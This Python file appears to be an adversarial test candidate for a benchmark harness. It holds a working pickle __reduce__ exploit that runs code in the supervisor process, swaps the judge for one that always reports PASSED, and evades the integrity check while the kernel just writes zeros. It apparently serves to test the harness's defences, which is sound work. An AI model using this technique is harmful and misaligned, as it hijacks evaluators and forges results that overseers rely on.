"""Cheat class 1 (patching the harness) moved into the supervisor: a Python worker answers
over a multiprocessing Pipe, and the supervisor reads each answer with Connection.recv(), which is
pickle.loads of bytes the candidate's process wrote (worker.py 111, `self._conn.recv()`). Unpickling runs
whatever a __reduce__ names. At import (while the worker is loading) this module takes the worker's end of
the pipe from the `_serve` frame below it and sends ("ok", <object whose __reduce__ is exec(PAYLOAD)>): the
supervisor's Worker.start reads it as the load message, and PAYLOAD runs in the supervisor. PAYLOAD replaces
solbench.supervisor.verdict.judge (imported lazily, later) with one that says PASSED, and makes this
worker's next receive drop the worker's own ("ok", None) load message that is still in the pipe, so the
protocol stays in step. Nothing in the worker is replaced (the integrity snapshot sees nothing). The
forward writes zeros: `passed`, tens of x faster than the seed. The same route runs code in an executor
agent (`--gpus`, Ray), which holds the unit's sealing key. .cu candidates under `--runner python` reach
the same pipe through the C API. Only with $SOLBENCH_ADVERSARY_PICKLE set (the payload would patch a pytest
process that runs the corpus in-process); without it, the forward's zeros are all there is.

expect: mismatch
"""

import os
import sys

PAYLOAD = r"""
import solbench.supervisor.verdict as verdict
import solbench.supervisor.python_worker as worker
from solbench.core.model import Status

real_judge = verdict.judge


def judge(*args, **kwargs):
    found = real_judge(*args, **kwargs)
    return verdict.Verdict(Status.PASSED, "", found.error)


verdict.judge = judge
real_receive = worker.Worker._receive


def receive(self, what, timeout_s):
    if self.spec.name == "candidate" and not getattr(self, "_stale_dropped", False):
        self._stale_dropped = True
        real_receive(self, what, timeout_s)  # the worker's own load message, still in the pipe
    return real_receive(self, what, timeout_s)


worker.Worker._receive = receive
"""


class _RunsWhereUnpickled:
    def __reduce__(self):
        return exec, (PAYLOAD, {})


def _send_payload():
    frame = sys._getframe(1)
    while frame is not None and frame.f_code.co_name != "_serve":
        frame = frame.f_back
    if frame is not None and frame.f_locals.get("spec") is not None and frame.f_locals["spec"].name == "candidate":
        frame.f_locals["conn"].send(("ok", _RunsWhereUnpickled()))


if os.environ.get("SOLBENCH_ADVERSARY_PICKLE"):
    _send_payload()


def forward(inp):
    inp.out.zero_()
    inp.lse.zero_()
